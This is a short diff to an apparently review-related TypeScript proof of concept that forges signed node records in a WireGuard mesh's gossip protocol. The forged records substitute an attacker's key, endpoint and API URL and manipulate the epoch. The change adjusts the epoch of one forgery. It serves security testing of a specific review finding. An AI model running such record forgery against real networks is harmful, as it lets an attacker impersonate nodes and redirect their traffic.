@@ -5,7 +5,7 @@
 //
 // Fetches the victim's own (signed) record, then gossips to the target, signed as FROM like
 // src/control/client.ts signs, three forgeries of it with the attacker's WireGuard key, endpoint and API
-// URL: (1) the victim's sigKey and signature kept (fields changed under them), (2) signed by the
+// URL: (1) the victim's sigKey and signature kept (fields and a newer epoch under them), (2) signed by the
 // attacker's own key with the epoch 2^53−1 of the review, (3) signed by the attacker's key with a plausible
 // newer epoch. With REPEAT, sends (3) that many times. Prints one JSON line: the HTTP statuses and the
 // attacker's public key.
@@ -59,7 +59,7 @@ const theirs = {
   endpoints: [`${attackerIp}:51820`],
   apiUrl: `https://${attackerIp}:4567`,
 };
-const copied: NodeRecord = { ...victim, ...theirs, epoch: Number.MAX_SAFE_INTEGER };
+const copied: NodeRecord = { ...victim, ...theirs, epoch: victim.epoch + 1000 };
 const maxEpoch = attacker.sign({ ...victim, ...theirs, epoch: Number.MAX_SAFE_INTEGER });
 const newer = attacker.sign({ ...victim, ...theirs, epoch: victim.epoch + 1000, version: 0 });
 const gossip = (r: NodeRecord) =>
